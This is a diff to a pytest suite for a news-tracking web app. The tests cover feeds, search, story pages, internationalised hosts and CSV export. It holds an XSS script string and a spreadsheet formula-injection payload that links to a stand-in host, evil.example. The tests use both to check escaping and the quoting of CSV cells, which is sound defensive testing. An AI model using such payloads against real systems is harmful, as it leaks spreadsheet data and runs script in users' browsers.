@@ -21,6 +21,7 @@ import urllib.request
 from contextlib import contextmanager
 from pathlib import Path
 from typing import Any, Iterator
+from xml.etree import ElementTree
 
 import pytest
 
@@ -28,9 +29,12 @@ from tracker.db import TABLES, VIEWS, open_db
 from tracker.serve import build_metadata
 
 ARTIFACTS = Path(__file__).parent / "artifacts"
+ATOM = "{http://www.w3.org/2005/Atom}"
 N_STORIES = 1_205  # more than the 1,000 rows a query stops at
 HOSTILE = '<script>alert("pwned")</script> Facial recognition <b>ban</b> & more'
 PUBLISHERS = ["The Guardian", "BBC News", "Wired", "Reuters"]
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'  # a crawled <title> (issue 15)
+IDN_HOST = "bücher.example"  # shown by browsers decoded; really xn--bcher-kva.example
 
 
 def _story_rows() -> tuple[list[tuple[Any, ...]], list[tuple[Any, ...]]]:
@@ -44,6 +48,8 @@ def _story_rows() -> tuple[list[tuple[Any, ...]], list[tuple[Any, ...]]]:
         for k in range(n):
             article_id += 1
             title = headline if k == 0 else f"Story {story:04d} follow-up {k}"
+            if story == 8 and k == 1:
+                title = FORMULA
             text = ("Police trial live facial recognition cameras in London" if story == 1
                     else f"Regulators discuss cookies and consent, item {article_id}")
             url = f"https://news{k}.example/{story}/{article_id}"
@@ -79,6 +85,16 @@ def served_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
                     "(1, 2, '2024-02-01T00:00:00Z', 'New title', 'ab')")
     db.conn.execute("INSERT INTO urls (url, article_id, kind, key) VALUES "
                     "('https://amp.news0.example/1/1', 1, 'amp', 'news0.example/1/1')")
+    # story 5's last article copies its first (syndication): the story page folds it under it
+    db.conn.execute("UPDATE articles SET duplicate_of = (SELECT MIN(id) FROM articles WHERE "
+                    "cluster_id = 5) WHERE id = (SELECT MAX(id) FROM articles WHERE cluster_id = 5)")
+    # story 11's first article comes from an internationalised host, and so does a fetch
+    db.conn.execute("UPDATE articles SET publisher_domain = ? WHERE id = (SELECT MIN(id) FROM "
+                    "articles WHERE cluster_id = 11)", [IDN_HOST])
+    db.conn.execute("INSERT INTO fetches (article_id, url, requested_at, status, outcome) VALUES "
+                    "(1, ?, '2024-01-02T00:00:00Z', 200, 'ok')", [f"https://{IDN_HOST}/1"])
+    db.conn.execute("INSERT INTO runs (id, started_at, ended_at, status, new_stories, grown_stories) "
+                    "VALUES (1, '2024-01-01T00:00:00Z', '2024-01-01T00:05:00Z', 'completed', 3, 1)")
     db.conn.execute("COMMIT")
     db.conn.close()
     return path
@@ -97,11 +113,11 @@ def _wait_for_url(log: Path, proc: subprocess.Popen[bytes], timeout: float = 30)
 
 
 @contextmanager
-def serving(db_path: Path, log: Path) -> Iterator[str]:
+def serving(db_path: Path, log: Path, *extra: str) -> Iterator[str]:
     """A real `tracker serve` process on 127.0.0.1, port 0; yields its base URL (read back)."""
     with log.open("wb") as out:
         proc = subprocess.Popen([sys.executable, "-m", "tracker", "serve", "--db", str(db_path),
-                                 "--port", "0"], stdout=out, stderr=subprocess.STDOUT,
+                                 "--port", "0", *extra], stdout=out, stderr=subprocess.STDOUT,
                                 start_new_session=True)
     try:
         yield _wait_for_url(log, proc)
@@ -121,12 +137,17 @@ def server(served_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterato
 
 
 def get(base: str, path: str, **params: Any) -> tuple[int, str]:
+    status, body = get_bytes(base, path, **params)
+    return status, body.decode("utf-8")
+
+
+def get_bytes(base: str, path: str, **params: Any) -> tuple[int, bytes]:
     url = base + path + ("?" + urllib.parse.urlencode(params, doseq=True) if params else "")
     try:
         with urllib.request.urlopen(url, timeout=30) as response:
-            return response.status, response.read().decode("utf-8")
+            return response.status, response.read()
     except urllib.error.HTTPError as exc:
-        return exc.code, exc.read().decode("utf-8")
+        return exc.code, exc.read()
 
 
 def get_json(base: str, path: str, **params: Any) -> Any:
@@ -158,7 +179,8 @@ def _view_columns(view: str) -> list[str]:
 def test_metadata_canned_queries_have_sql_and_aim_at_the_database() -> None:
     meta = build_metadata("news")
     queries = meta["databases"]["news"]["queries"]
-    assert {"story", "latest_stories", "stories_by_publisher", "search", "story_feed"} <= set(queries)
+    assert {"story", "latest_stories", "stories_by_publisher", "search", "search_stories",
+            "story_feed"} <= set(queries)
     assert all(q["sql"].strip().upper().startswith("SELECT") for q in queries.values())
     assert "/news/stories" in meta["description_html"]
     charts = meta["plugins"]["datasette-dashboards"]["activity"]["charts"]
@@ -186,9 +208,10 @@ def test_story_page_lists_articles_in_publication_order(server: str) -> None:
     assert [r["published"] for r in rows] == sorted(r["published"] for r in rows)
     status, html = get(server, "/tracker/story", id=2)
     assert status == 200 and "Story 0002 follow-up 2" in html
-    assert f'<a href="/tracker/articles/{rows[0]["article_id"]}">' in html
-    status, html = get(server, "/tracker/articles", cluster_id=2)
-    assert status == 200 and '<a href="/tracker/clusters/2">Story 0002 headline' in html
+    assert f'href="/tracker/articles/{rows[0]["article_id"]}"' in html
+    status, html = get(server, "/tracker/articles", cluster_id=2)  # the story page, not a clusters row
+    assert status == 200 and '<a href="/tracker/story?id=2">Story 0002 headline' in html
+    assert 'href="/tracker/clusters/2"' not in html
 
 
 def test_article_row_links_to_its_urls(server: str) -> None:
@@ -260,8 +283,28 @@ def test_hostile_title_is_escaped(server: str) -> None:
 def test_atom_feed_of_new_stories_for_a_search(server: str) -> None:
     status, xml = get(server, "/tracker/story_feed.atom", q="facial recognition")
     assert status == 200 and xml.startswith("<?xml")
-    assert "tag:privacy-news-tracker,2024:story/1<" in xml
-    assert 'href="story?id=1"' in xml and "<script>" not in xml
+    feed = ElementTree.fromstring(xml.split("\n", 1)[1])
+    assert feed.findtext(f"{ATOM}title") == "New stories about a subject: facial recognition"
+    entries = {e.findtext(f"{ATOM}id"): e for e in feed.findall(f"{ATOM}entry")}
+    assert set(entries) == {"tag:privacy-news-tracker,2024:story/1", "tag:privacy-news-tracker,2024:story/7"}
+    story1 = entries["tag:privacy-news-tracker,2024:story/1"]
+    assert story1.find(f"{ATOM}link").get("href") == server + "/tracker/story?id=1"  # absolute
+    content = story1.findtext(f"{ATOM}content")  # its articles as links, with their excerpts
+    assert '<a href="https://news0.example/1/1">' in content and "excerpt 1" in content
+    assert '<a href="https://news1.example/1/2">' in content and "excerpt 2" in content
+    hostile = entries["tag:privacy-news-tracker,2024:story/7"]
+    assert hostile.findtext(f"{ATOM}title") == HOSTILE and "<script>" not in xml
+    assert 'href="javascript:' not in hostile.findtext(f"{ATOM}content")
+
+
+def test_atom_feed_that_matches_nothing_is_a_valid_empty_feed(server: str) -> None:
+    status, xml = get(server, "/tracker/story_feed.atom", q="zzzqqq nothing matches")
+    assert status == 200, xml[:300]  # datasette-atom: 500, max() arg is an empty sequence
+    feed = ElementTree.fromstring(xml.split("\n", 1)[1])
+    assert feed.tag == f"{ATOM}feed" and feed.findall(f"{ATOM}entry") == []
+    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", feed.findtext(f"{ATOM}updated") or "")
+    assert "zzzqqq nothing matches" in (feed.findtext(f"{ATOM}title") or "")
+    assert feed.findtext(f"{ATOM}id")
 
 
 def test_dashboard_chart_page(server: str) -> None:
@@ -324,6 +367,137 @@ def test_given_seed_stories_served_end_to_end(shared_dir: Path, tmp_path: Path) 
             assert len(get_json(base, "/given/story.json", id=story_id, _shape="array")) == n_articles
         hits = get_json(base, "/given/search.json", q="Facewatch", _shape="array")
         assert hits and {h["story_id"] for h in hits} <= {s["id"] for s in stories}
+
+
+# --- The pages analysts read: home, search, story ---------------------------------------------------
+
+def _links(html: str) -> list[str]:
+    return re.findall(r'href="([^"]+)"', html)
+
+
+def test_home_page_opens_on_the_newest_stories_and_hides_internal_tables(server: str) -> None:
+    status, html = get(server, "/")
+    assert status == 200
+    newest = get_json(server, "/tracker.json", _shape="array", sql="SELECT id, headline FROM clusters "
+                      "WHERE merged_into IS NULL ORDER BY first_seen DESC, id DESC LIMIT 3")
+    for story in newest:
+        assert f'href="/tracker/story?id={story["id"]}"' in html
+    assert 'action="/tracker/search_stories"' in html and "Growing fastest" in html
+    assert "/tracker/new_stories?run=1" in html  # the last run's new stories, one click away
+    links = _links(html)
+    for internal in ("relations", "urls", "article_merges", "story_links", "hosts"):
+        assert f"/tracker/{internal}" not in links, internal
+    status, db_page = get(server, "/tracker")
+    assert status == 200 and "select * from articles" in db_page  # not article_merges (0 rows)
+    assert "/tracker/relations" not in _links(db_page.split("hidden table")[0])
+    assert get(server, "/tracker/relations")[0] == 200  # hidden, still reachable
+
+
+def test_search_takes_phrases_or_and_prefixes_and_an_empty_query(server: str) -> None:
+    def story_ids(q: str, **params: Any) -> set[int]:
+        return {h["story_id"] for h in get_json(server, "/tracker/search.json", q=q, _shape="array",
+                                                 **params)}
+
+    assert story_ids("recognition cameras") == {1}
+    assert story_ids("cameras recognition") == set()  # a phrase, not two words anywhere
+    assert story_ids("London OR ban") == {1, 7}
+    assert story_ids("recogn*") == {1, 7}
+    assert story_ids('"unbalanced') == set() and story_ids("OR") != set()
+    status, html = get(server, "/tracker/search", q="")
+    assert status == 200 and "syntax error" not in html  # an empty search lists everything
+    everything = get_json(server, "/tracker/search.json", q="", _shape="array")
+    assert len(everything) == 200
+    assert [r["published"] for r in everything] == sorted((r["published"] for r in everything), reverse=True)
+    oldest = get_json(server, "/tracker/search.json", q="consent", sort="oldest", _shape="array")
+    assert [r["published"] for r in oldest] == sorted(r["published"] for r in oldest)
+
+
+def test_search_by_story_sorts_by_relevance_or_date(server: str) -> None:
+    stories = get_json(server, "/tracker/search_stories.json", q="facial recognition", _shape="array")
+    assert {s["story_id"] for s in stories} == {1, 7}
+    assert all(s["headline"] and s["n_articles"] for s in stories)
+    newest = get_json(server, "/tracker/search_stories.json", q="consent", sort="newest", _shape="array")
+    assert [s["last_seen"] for s in newest] == sorted((s["last_seen"] for s in newest), reverse=True)
+    every = get_json(server, "/tracker/search_stories.json", q="", _shape="array")
+    assert len(every) == 200 and every[0]["last_seen"] == max(s["last_seen"] for s in every)
+    status, html = get(server, "/tracker/search_stories", q="facial recognition")
+    assert status == 200 and '<a class="headline" href="/tracker/story?id=1">' in html
+    assert "&lt;script&gt;alert(" in html and '<script>alert("pwned")' not in html
+
+
+def test_story_page_reads_as_a_story(server: str) -> None:
+    status, html = get(server, "/tracker/story", id=2)
+    assert status == 200
+    assert "<title>Story 0002 headline about data protection</title>" in html
+    assert "first published <time>2020-03-03T00:00:00Z</time>" in html
+    assert "last published <time>2020-03-03T02:00:00Z</time>" in html
+    assert "excerpt 3" in html and 'href="https://news0.example/2/3"' in html  # excerpt and link
+    assert html.index("Story 0002 headline") < html.index("Story 0002 follow-up 1") < html.index(
+        "Story 0002 follow-up 2")
+    assert "Stories on the same subject" in html
+    neighbours = re.findall(r'<a href="/tracker/story\?id=(\d+)">Story \d+ headline', html)
+    assert neighbours and "2" not in neighbours
+    status, html = get(server, "/tracker/story", id=5)  # its last article copies its first
+    first, copy = get_json(server, "/tracker.json", _shape="array", sql="SELECT id FROM articles "
+                           "WHERE cluster_id = 5 AND id IN (SELECT MIN(id) FROM articles WHERE "
+                           "cluster_id = 5 UNION SELECT MAX(id) FROM articles WHERE cluster_id = 5) ORDER BY id")
+    folded = html.split("<details>")[1].split("</details>")[0]
+    assert f'>#{copy["id"]}<' in folded and f'>#{first["id"]}<' not in folded
+    status, html = get(server, "/tracker/story", id=999999)
+    assert status == 200 and "No story 999999" in html
+
+
+def test_lists_read_as_text_and_publishers_link_to_their_stories(server: str) -> None:
+    status, html = get(server, "/tracker/stories", id=2)
+    assert status == 200 and '["' not in html
+    assert '<a href="/tracker/stories_by_publisher?publisher=Reuters">Reuters</a>; ' in html
+    status, html = get(server, "/tracker/articles", id=1)
+    assert "Privacy; AI" in html
+
+
+def test_punycode_hosts_are_shown_in_ascii(server: str) -> None:
+    status, html = get(server, "/tracker/story", id=11)
+    assert status == 200 and "xn--bcher-kva.example (bücher.example)" in html
+    status, html = get(server, "/tracker/fetches")
+    assert status == 200 and 'href="https://xn--bcher-kva.example/1"' in html
+    assert f'href="https://{IDN_HOST}/1"' not in html
+    status, html = get(server, "/tracker/articles", publisher_domain=IDN_HOST)
+    assert status == 200 and "xn--bcher-kva.example" in html
+
+
+# --- CSV that a spreadsheet opens safely ---------------------------------------------------------------
+
+def _csv_rows(body: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
+
+
+def test_csv_cells_never_start_a_formula(server: str) -> None:
+    for path, params in (("/tracker/story_articles.csv", {"_stream": "on"}),
+                         ("/tracker/articles.csv", {"_stream": "on", "_size": "max"}),
+                         ("/tracker/story.csv", {"id": 8}),
+                         ("/tracker.csv", {"sql": "SELECT title, -1 AS n, '-2' AS s FROM articles "
+                                                  "WHERE cluster_id = 8"})):
+        status, body = get_bytes(server, path, **params)
+        assert status == 200, (path, body[:200])
+        titles = [row["title"] for row in _csv_rows(body)]
+        assert "'" + FORMULA in titles, path
+        assert not any(t.startswith(("=", "+", "-", "@")) for t in titles), path
+        if path == "/tracker.csv":
+            assert {row["n"] for row in _csv_rows(body)} == {"-1"}  # a number is not a formula
+    rows = get_json(server, "/tracker/story.json", id=8, _shape="array")
+    assert FORMULA in [r["title"] for r in rows]  # JSON keeps the text as stored
+
+
+def test_the_csv_link_analysts_click_is_safe_and_opens_in_excel(server: str) -> None:
+    status, html = get(server, "/tracker/story_articles", story_id=8)
+    links = [urllib.parse.unquote(h).replace("&amp;", "&") for h in _links(html) if ".csv" in h]
+    assert links
+    for link in links:
+        status, body = get_bytes(server, link)
+        assert status == 200 and "'" + FORMULA in [r["title"] for r in _csv_rows(body)], link
+    status, body = get_bytes(server, "/tracker/story_articles.csv", story_id=8, _dl="on")
+    assert body.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads the file as UTF-8
+    assert not get_bytes(server, "/tracker/story_articles.csv", story_id=8)[1].startswith(b"\xef\xbb\xbf")
 
 
 # --- Headless Chromium -----------------------------------------------------------------------------
